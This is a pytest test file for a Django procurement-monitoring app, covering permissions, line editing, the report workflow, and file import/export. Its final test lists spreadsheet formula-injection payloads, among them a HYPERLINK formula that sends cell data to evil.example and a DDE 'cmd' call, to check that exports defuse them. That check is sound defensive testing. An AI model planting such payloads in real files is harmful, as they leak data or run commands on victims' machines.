"""Pages of monitoring: who sees what, and what a procurer and a coordinator do."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from cfit.monitoring.models import (
    ChangeAction,
    DemandForecast,
    LineQuery,
    PurchaseImport,
    PurchaseLine,
    PurchaseReport,
    ReportStatus,
)

from .factories import (
    DemandForecastFactory,
    PurchaseLineFactory,
    criterion,
    ecolabel,
    product_group,
)

SLUG = "city-of-alphen"


def report_urls(
    line_pk: int, query_pk: int = 1, import_pk: int = 1
) -> list[tuple[str, str]]:
    kwargs = {"slug": SLUG, "year": 2025}
    return [
        ("get", reverse("monitoring:report", kwargs=kwargs)),
        ("get", reverse("monitoring:line-add", kwargs=kwargs)),
        ("get", reverse("monitoring:line-edit", kwargs={**kwargs, "pk": line_pk})),
        ("get", reverse("monitoring:line-delete", kwargs={**kwargs, "pk": line_pk})),
        ("get", reverse("monitoring:line-query", kwargs={**kwargs, "pk": line_pk})),
        ("post", reverse("monitoring:query-answer", kwargs={**kwargs, "pk": query_pk})),
        ("get", reverse("monitoring:upload", kwargs=kwargs)),
        ("get", reverse("monitoring:import", kwargs={**kwargs, "pk": import_pk})),
        (
            "post",
            reverse("monitoring:import-confirm", kwargs={**kwargs, "pk": import_pk}),
        ),
        ("post", reverse("monitoring:export-csv", kwargs=kwargs)),
        ("post", reverse("monitoring:export-xlsx", kwargs=kwargs)),
        ("post", reverse("monitoring:submit", kwargs=kwargs)),
        ("post", reverse("monitoring:accept", kwargs=kwargs)),
        ("post", reverse("monitoring:reopen", kwargs=kwargs)),
        ("get", reverse("monitoring:history", kwargs=kwargs)),
    ]


@pytest.mark.parametrize("who", ["procurer_b", "outsider"])
def test_nobody_outside_the_organisation_and_its_coordinators_sees_its_report(
    client, request, report_a, who
):
    line = report_a.lines.get()
    query = LineQuery.objects.create(line=line, question="Why?")
    purchase_import = PurchaseImport.objects.create(
        report=report_a, original_name="x.csv"
    )
    client.force_login(request.getfixturevalue(who))
    for method, url in report_urls(line.pk, query.pk, purchase_import.pk):
        response = getattr(client, method)(url)
        assert response.status_code == 404, url
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.DRAFT
    assert report_a.lines.count() == 1


def test_a_visitor_is_sent_to_sign_in(client, report_a):
    response = client.get(
        reverse("monitoring:report", kwargs={"slug": SLUG, "year": 2025})
    )
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"] or "login" in response["Location"]


def test_a_coordinator_sees_a_member_report_but_cannot_change_its_lines(
    client, coordinator, report_a
):
    line = report_a.lines.get()
    client.force_login(coordinator)
    assert client.get(report_a.get_absolute_url()).status_code == 200
    kwargs = {"slug": SLUG, "year": 2025, "pk": line.pk}
    assert client.get(reverse("monitoring:line-edit", kwargs=kwargs)).status_code == 404
    assert (
        client.post(reverse("monitoring:line-delete", kwargs=kwargs)).status_code == 404
    )
    assert PurchaseLine.objects.filter(pk=line.pk).exists()


def test_the_secretariat_sees_every_report(client, secretariat, report_a):
    client.force_login(secretariat)
    response = client.get(report_a.get_absolute_url())
    assert response.status_code == 200
    assert b"Laptop" in response.content


def test_a_procurer_adds_a_line_with_every_field(
    client, procurer_a, period, organisation_a
):
    lifetime = criterion("MON-LAP-1")
    client.force_login(procurer_a)
    url = reverse("monitoring:line-add", kwargs={"slug": SLUG, "year": 2025})
    form_page = client.get(url)
    assert form_page.context["form"].initial["country_of_use"] == "NL"
    response = client.post(
        url,
        {
            "product_group": product_group("laptop").pk,
            "quantity": "120",
            "condition": "refurbished",
            "expected_lifetime_years": "6",
            "warranty_years": "3",
            "ecolabels": [ecolabel("tco-certified").pk],
            "criteria": [lifetime.pk],
            "spend_eur": "54000.50",
            "country_of_use": "BE",
            "tender_reference": "HAV-2025-01",
            "devices_retired": "100",
            "retired_to": "reuse",
        },
    )
    assert response.status_code == 302
    line = PurchaseLine.objects.get(report__organisation=organisation_a)
    assert (line.quantity, line.condition, line.country_of_use) == (
        120,
        "refurbished",
        "BE",
    )
    assert line.has_ecolabel
    assert [c.code for c in line.criteria.all()] == ["MON-LAP-1"]
    change = line.report.changes.get()
    assert change.action == ChangeAction.LINE_ADDED
    assert change.after["quantity"] == 120


def test_retired_devices_need_a_destination_and_a_zero_quantity_is_refused(
    client, procurer_a, period
):
    client.force_login(procurer_a)
    url = reverse("monitoring:line-add", kwargs={"slug": SLUG, "year": 2025})
    response = client.post(
        url,
        {
            "product_group": product_group("laptop").pk,
            "quantity": "0",
            "condition": "new",
            "country_of_use": "NL",
            "devices_retired": "5",
            "retired_to": "",
        },
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert "quantity" in errors
    assert errors["retired_to"] == [
        "Say where the retired devices went, or choose Unknown."
    ]
    assert not PurchaseLine.objects.exists()


def test_a_year_that_is_not_open_cannot_be_started(client, procurer_a, organisation_a):
    client.force_login(procurer_a)
    response = client.get(
        reverse("monitoring:line-add", kwargs={"slug": SLUG, "year": 2019})
    )
    assert response.status_code == 404
    assert not PurchaseReport.objects.exists()


def line_post(line, **changes):
    data = {
        "product_group": line.product_group_id,
        "quantity": str(line.quantity),
        "condition": line.condition,
        "country_of_use": line.country_of_use,
        "devices_retired": "0",
        "version": str(line.version),
    }
    data.update(changes)
    return data


def test_the_second_of_two_people_saving_the_same_line_is_told_and_nothing_is_overwritten(
    client, procurer_a, organisation_a, report_a
):
    colleague_client = client.__class__()
    from cfit.organisations.tests.factories import member_of

    colleague = member_of(organisation_a, email="colleague@example.org")
    line = report_a.lines.get()
    url = reverse(
        "monitoring:line-edit", kwargs={"slug": SLUG, "year": 2025, "pk": line.pk}
    )
    client.force_login(procurer_a)
    colleague_client.force_login(colleague)
    # Both open the line at version 1.
    first = line_post(line, quantity="30")
    second = line_post(line, quantity="99")
    assert client.post(url, first).status_code == 302
    response = colleague_client.post(url, second)
    assert response.status_code == 409
    assert b"changed by someone else" in response.content
    line.refresh_from_db()
    assert line.quantity == 30
    assert line.version == 2
    # The form now carries the current version: saving again is a knowing choice.
    assert response.context["form"]["version"].value() == "2"


def test_deleting_a_line_changed_meanwhile_deletes_nothing(
    client, procurer_a, report_a
):
    line = report_a.lines.get()
    PurchaseLine.objects.filter(pk=line.pk).update(version=5)
    client.force_login(procurer_a)
    url = reverse(
        "monitoring:line-delete", kwargs={"slug": SLUG, "year": 2025, "pk": line.pk}
    )
    client.post(url, {"version": "1"})
    assert PurchaseLine.objects.filter(pk=line.pk).exists()


def test_submit_query_answer_accept_and_reopen(
    client, procurer_a, coordinator, report_a
):
    line = report_a.lines.get()
    kwargs = {"slug": SLUG, "year": 2025}
    client.force_login(procurer_a)
    client.post(reverse("monitoring:submit", kwargs=kwargs))
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.SUBMITTED
    # Locked: the procurer cannot change a line.
    edit = reverse("monitoring:line-edit", kwargs={**kwargs, "pk": line.pk})
    client.post(edit, line_post(line, quantity="1"))
    line.refresh_from_db()
    assert line.quantity == 25

    client.force_login(coordinator)
    client.post(
        reverse("monitoring:line-query", kwargs={**kwargs, "pk": line.pk}),
        {"question": "Were these really new?"},
    )
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.QUERIED
    query = LineQuery.objects.get()

    client.force_login(procurer_a)
    assert client.post(edit, line_post(line, quantity="24")).status_code == 302
    # Not submittable with an open question.
    client.post(reverse("monitoring:submit", kwargs=kwargs))
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.QUERIED
    client.post(
        reverse("monitoring:query-answer", kwargs={**kwargs, "pk": query.pk}),
        {"answer": "One was refurbished; corrected to 24."},
    )
    client.post(reverse("monitoring:submit", kwargs=kwargs))
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.SUBMITTED

    client.force_login(coordinator)
    client.post(reverse("monitoring:accept", kwargs=kwargs))
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.ACCEPTED
    assert report_a.accepted_by == coordinator

    # A member cannot reopen an accepted report; the coordinator can.
    client.force_login(procurer_a)
    assert client.post(reverse("monitoring:reopen", kwargs=kwargs)).status_code == 404
    client.force_login(coordinator)
    client.post(reverse("monitoring:reopen", kwargs=kwargs), {"reason": "Typo."})
    report_a.refresh_from_db()
    assert report_a.status == ReportStatus.DRAFT

    history = client.get(reverse("monitoring:history", kwargs=kwargs))
    actions = [c.action for c in history.context["page"].object_list]
    assert actions == [
        ChangeAction.REOPENED,
        ChangeAction.ACCEPTED,
        ChangeAction.SUBMITTED,
        ChangeAction.ANSWERED,
        ChangeAction.LINE_CHANGED,
        ChangeAction.QUERIED,
        ChangeAction.SUBMITTED,
    ]


def test_a_procurer_of_a_member_can_read_the_history(client, procurer_a, report_a):
    client.force_login(procurer_a)
    response = client.get(
        reverse("monitoring:history", kwargs={"slug": SLUG, "year": 2025})
    )
    assert response.status_code == 200


def upload(client, content: bytes, name: str = "purchases.csv"):
    file = io.BytesIO(content)
    file.name = name
    return client.post(
        reverse("monitoring:upload", kwargs={"slug": SLUG, "year": 2025}),
        {"file": file},
    )


def test_an_upload_shows_a_preview_and_stores_only_on_confirmation(
    client, procurer_a, report_a
):
    client.force_login(procurer_a)
    response = upload(client, b"Product group;Quantity\nlaptop;10\nsmartphone;5\n")
    assert response.status_code == 302
    preview = client.get(response["Location"])
    purchase_import = preview.context["purchase_import"]
    assert (purchase_import.line_count, purchase_import.device_count) == (2, 15)
    assert report_a.lines.count() == 1
    client.post(
        reverse(
            "monitoring:import-confirm",
            kwargs={"slug": SLUG, "year": 2025, "pk": purchase_import.pk},
        ),
        {"mode": "replace"},
    )
    assert sorted(report_a.lines.values_list("quantity", flat=True)) == [5, 10]


def test_an_upload_with_problems_lists_them_and_cannot_be_stored(
    client, procurer_a, report_a
):
    client.force_login(procurer_a)
    response = upload(client, b"Product group,Quantity\nlaptop,10\nlaptop,zero\n")
    preview = client.get(response["Location"])
    assert (
        "row 3, column Quantity: &quot;zero&quot; is not a whole number of devices."
        in preview.content.decode()
    )
    purchase_import = preview.context["purchase_import"]
    client.post(
        reverse(
            "monitoring:import-confirm",
            kwargs={"slug": SLUG, "year": 2025, "pk": purchase_import.pk},
        ),
        {"mode": "add"},
    )
    assert report_a.lines.count() == 1


def test_the_preview_says_which_decimal_mark_the_amounts_were_read_with(
    client, procurer_a, report_a
):
    client.force_login(procurer_a)
    response = upload(
        client,
        b"Product group;Quantity;Spend (EUR)\nlaptop;10;1.234\nlaptop;5;99,50\n",
    )
    preview = client.get(response["Location"])
    purchase_import = preview.context["purchase_import"]
    assert purchase_import.spend_total == Decimal("1333.50")
    assert "a comma as the decimal mark" in preview.content.decode()


def test_an_upload_that_is_not_a_spreadsheet_is_explained(client, procurer_a, report_a):
    client.force_login(procurer_a)
    response = upload(client, b"%PDF-1.7 ...", name="report.pdf")
    preview = client.get(response["Location"])
    assert "This is a PDF file. Upload a CSV or XLSX file." in preview.content.decode()


def test_the_template_download_is_an_xlsx_that_imports_cleanly(client, procurer_a):
    from cfit.monitoring.importing import check_purchases

    client.force_login(procurer_a)
    response = client.get(reverse("monitoring:template"))
    content = b"".join(response.streaming_content)
    assert content.startswith(b"PK")
    check = check_purchases(io.BytesIO(content), default_country="NL")
    # The template has a header and no lines: that is the only thing it says.
    assert [str(p) for p in check.problems] == [
        "The file has a header row but no purchase lines."
    ]


def test_the_export_imports_back_to_the_same_lines(client, procurer_a, report_a):
    from cfit.monitoring.importing import check_purchases

    PurchaseLineFactory(
        report=report_a,
        product_group=product_group("smartphone"),
        quantity=12345,
        condition="reused",
        expected_lifetime_years="4.50",
        warranty_years="2",
        spend_eur="1234567.56",
        country_of_use="DE",
        tender_reference="T; with, punctuation",
        devices_retired=2,
        retired_to="recycling",
    ).ecolabels.add(ecolabel("epeat-gold"), ecolabel("tco-certified"))
    client.force_login(procurer_a)
    kwargs = {"slug": SLUG, "year": 2025}

    def as_tuples(lines):
        return sorted(
            (
                line.product_group_code,
                line.quantity,
                line.condition,
                line.expected_lifetime_years,
                line.warranty_years,
                sorted(line.ecolabel_ids),
                sorted(line.criterion_ids),
                line.spend_eur,
                line.country_of_use,
                line.tender_reference,
                line.devices_retired,
                line.retired_to,
            )
            for line in lines
        )

    stored = as_tuples(
        check_purchases(
            io.BytesIO(
                b"".join(
                    client.post(
                        reverse("monitoring:export-csv", kwargs=kwargs)
                    ).streaming_content
                )
            ),
            keep_lines=True,
        ).lines
    )
    from_xlsx = as_tuples(
        check_purchases(
            io.BytesIO(
                client.post(reverse("monitoring:export-xlsx", kwargs=kwargs)).content
            ),
            keep_lines=True,
        ).lines
    )
    expected = sorted(
        (
            line.product_group.code,
            line.quantity,
            line.condition,
            line.expected_lifetime_years,
            line.warranty_years,
            sorted(line.ecolabels.values_list("pk", flat=True)),
            sorted(line.criteria.values_list("pk", flat=True)),
            line.spend_eur,
            line.country_of_use,
            line.tender_reference,
            line.devices_retired,
            line.retired_to,
        )
        for line in PurchaseLine.objects.filter(report=report_a)
    )
    assert stored == expected
    assert from_xlsx == expected


def test_the_xlsx_export_shows_numbers_in_the_sites_format_and_keeps_them_numbers(
    client, procurer_a, report_a
):
    from openpyxl import load_workbook

    PurchaseLineFactory(
        report=report_a,
        quantity=12345,
        expected_lifetime_years="4.5",
        spend_eur="1234567.5",
    )
    client.force_login(procurer_a)
    content = client.post(
        reverse("monitoring:export-xlsx", kwargs={"slug": SLUG, "year": 2025})
    ).content
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == 12345)
    cells = dict(zip(header, row, strict=True))
    quantity = cells["Quantity"]
    spend = next(c for label, c in cells.items() if label.startswith("Spend"))
    lifetime = next(c for label, c in cells.items() if "lifetime" in label.lower())
    assert (quantity.value, quantity.number_format) == (12345, "#,##0")
    assert (spend.value, spend.number_format) == (1234567.5, "#,##0.00")
    assert (lifetime.value, lifetime.number_format) == (4.5, "#,##0.0")


def test_reports_due_show_on_my_page(client, procurer_a, period):
    client.force_login(procurer_a)
    response = client.get(reverse("accounts:home"))
    assert "Purchase report 2025" in response.content.decode()


def test_the_secretariat_sets_reporting_years_and_others_cannot(
    client, secretariat, procurer_a
):
    client.force_login(procurer_a)
    assert client.get(reverse("monitoring:periods")).status_code == 404
    client.force_login(secretariat)
    client.post(
        reverse("monitoring:periods"),
        {"year": "2026", "deadline": "2027-03-31", "open": "on"},
    )
    from cfit.monitoring.models import ReportingPeriod

    assert ReportingPeriod.objects.get(year=2026).deadline.isoformat() == "2027-03-31"


def test_a_procurer_plans_a_tender_and_no_one_else_sees_it(
    client, procurer_a, procurer_b, organisation_a
):
    client.force_login(procurer_a)
    laptop_base = criterion("MON-LAP-1")
    client.post(
        reverse("monitoring:forecast-add"),
        {
            "title": "Laptops 2027",
            "product_group": product_group("laptop").pk,
            "quantity": "800",
            "year": "2027",
            "quarter": "2",
            "level": "base",
            "criteria": [laptop_base.pk],
        },
    )
    forecast = DemandForecast.objects.get()
    assert forecast.organisation == organisation_a
    assert forecast.created_by == procurer_a
    client.force_login(procurer_b)
    assert (
        client.get(
            reverse("monitoring:forecast-edit", kwargs={"pk": forecast.pk})
        ).status_code
        == 404
    )
    assert (
        client.post(
            reverse("monitoring:forecast-delete", kwargs={"pk": forecast.pk})
        ).status_code
        == 404
    )
    assert DemandForecast.objects.filter(pk=forecast.pk).exists()


def test_a_forecast_with_a_criterion_of_another_product_group_is_refused(
    client, procurer_a
):
    phone = criterion("MON-PHO-1", groups=("smartphone",))
    client.force_login(procurer_a)
    response = client.post(
        reverse("monitoring:forecast-add"),
        {
            "title": "Laptops",
            "product_group": product_group("laptop").pk,
            "quantity": "10",
            "year": "2027",
            "level": "base",
            "criteria": [phone.pk],
        },
    )
    assert response.status_code == 200
    assert not DemandForecast.objects.exists()


def test_a_person_without_an_organisation_has_no_forecasts(client, outsider):
    DemandForecastFactory()
    client.force_login(outsider)
    assert client.get(reverse("monitoring:forecasts")).status_code == 404


def test_a_large_file_is_checked_and_stored_by_background_tasks(
    client, procurer_a, report_a, monkeypatch, django_capture_on_commit_callbacks
):
    from cfit.monitoring import views

    calls = []

    class Spy:
        """Notes that the task was enqueued, then enqueues it (run at once in tests)."""

        def __init__(self, name):
            self.name, self.task = name, getattr(views, name)

        def enqueue(self, **kwargs):
            calls.append(self.name)
            return self.task.enqueue(**kwargs)

    for name in ("check_import", "store_import"):
        monkeypatch.setattr(views, name, Spy(name))
    monkeypatch.setattr(views, "BACKGROUND_FROM_BYTES", 10)
    client.force_login(procurer_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, b"Product group,Quantity\nlaptop,10\nlaptop,11\n")
    purchase_import = PurchaseImport.objects.get()
    assert purchase_import.status == "checked"
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse(
                "monitoring:import-confirm",
                kwargs={"slug": SLUG, "year": 2025, "pk": purchase_import.pk},
            ),
            {"mode": "add"},
        )
    assert calls == ["check_import", "store_import"]
    assert report_a.lines.count() == 3
    assert client.get(response["Location"]).context["purchase_import"].status == "done"


def test_a_running_import_shows_its_progress_and_polls(client, procurer_a, report_a):
    purchase_import = PurchaseImport.objects.create(
        report=report_a,
        original_name="big.csv",
        status="checking",
        rows_done=500,
        rows_total=1000,
    )
    client.force_login(procurer_a)
    response = client.get(
        reverse(
            "monitoring:import",
            kwargs={"slug": SLUG, "year": 2025, "pk": purchase_import.pk},
        ),
        headers={"HX-Request": "true"},
    )
    content = response.content.decode()
    assert '<progress id="import-progress" max="100" value="50">' in content
    assert 'hx-trigger="every 1s"' in content
    assert "<h1" not in content  # only the partial


@pytest.mark.parametrize("who", ["procurer_a", "coordinator", "outsider"])
def test_only_the_secretariat_sees_and_changes_reporting_years(
    client, request, period, who
):
    client.force_login(request.getfixturevalue(who))
    url = reverse("monitoring:period-edit", kwargs={"year": 2025})
    assert client.get(url).status_code == 404
    assert (
        client.post(url, {"year": "2025", "deadline": "2020-01-01"}).status_code == 404
    )
    period.refresh_from_db()
    assert period.deadline.year == 2026


@pytest.mark.parametrize("name", ["forecasts", "forecast-add"])
def test_planned_tenders_need_an_organisation(client, outsider, name):
    client.force_login(outsider)
    assert client.get(reverse(f"monitoring:{name}")).status_code == 404


def test_the_reports_page_lists_reports_to_review_for_the_coordinator_only(
    client, coordinator, procurer_b, report_a
):
    report_a.status = ReportStatus.SUBMITTED
    report_a.save()
    client.force_login(coordinator)
    assert list(client.get(reverse("monitoring:index")).context["to_review"]) == [
        report_a
    ]
    client.force_login(procurer_b)
    response = client.get(reverse("monitoring:index"))
    assert list(response.context["to_review"]) == []
    assert "City of Alphen" not in response.content.decode()


def test_opening_the_forms_of_a_new_report_starts_nothing(client, procurer_a, period):
    client.force_login(procurer_a)
    kwargs = {"slug": SLUG, "year": 2025}
    assert client.get(reverse("monitoring:line-add", kwargs=kwargs)).status_code == 200
    assert client.get(reverse("monitoring:upload", kwargs=kwargs)).status_code == 200
    assert not PurchaseReport.objects.exists()


def test_a_line_with_errors_starts_no_report_and_a_good_one_does(
    client, procurer_a, period
):
    client.force_login(procurer_a)
    url = reverse("monitoring:line-add", kwargs={"slug": SLUG, "year": 2025})
    client.post(url, {"product_group": product_group("laptop").pk, "quantity": "-1"})
    assert not PurchaseReport.objects.exists()
    client.post(
        url,
        {
            "product_group": product_group("laptop").pk,
            "quantity": "3",
            "condition": "new",
            "country_of_use": "NL",
            "devices_retired": "0",
        },
    )
    assert PurchaseReport.objects.get().lines.count() == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
]


def test_the_report_exports_write_formulas_in_tender_references_as_text(
    client, procurer_a, report_a
):
    from openpyxl import load_workbook

    for reference in FORMULAS:
        PurchaseLineFactory(report=report_a, quantity=4, tender_reference=reference)
    client.force_login(procurer_a)
    kwargs = {"slug": SLUG, "year": 2025}
    text = b"".join(
        client.post(reverse("monitoring:export-csv", kwargs=kwargs)).streaming_content
    ).decode("utf-8-sig")
    references = [row[9] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(r for r in references if r) == sorted("'" + f for f in FORMULAS)

    content = client.post(reverse("monitoring:export-xlsx", kwargs=kwargs)).content
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    cells = [row[9] for row in rows if row[9].value]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}
    # Numbers stay numbers.
    assert {row[1].data_type for row in rows} == {"n"}
    # And the CSV imports back to the same references, without the apostrophes.
    from cfit.monitoring.importing import check_purchases

    lines = check_purchases(io.BytesIO(text.encode()), keep_lines=True).lines
    assert sorted(line.tender_reference for line in lines if line.tender_reference) == (
        sorted(FORMULAS)
    )
